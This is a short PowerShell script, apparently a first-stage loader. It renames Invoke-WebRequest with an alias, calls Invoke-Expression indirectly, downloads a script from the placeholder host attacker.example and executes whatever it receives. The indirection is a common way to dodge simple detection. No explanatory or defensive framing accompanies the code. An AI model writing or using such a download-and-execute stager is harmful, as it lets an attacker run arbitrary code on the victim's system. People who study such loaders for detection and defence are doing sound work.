sal w Invoke-WebRequest
$g = Get-Command Invoke-Expression

function Get-Stage {
    param([string]$Uri)
    $r = w -Uri $Uri -UseBasicParsing
    return $r.Content
}

$s = Get-Stage -Uri 'https://attacker.example/p.ps1'
if ($s) {
    & $g $s
}
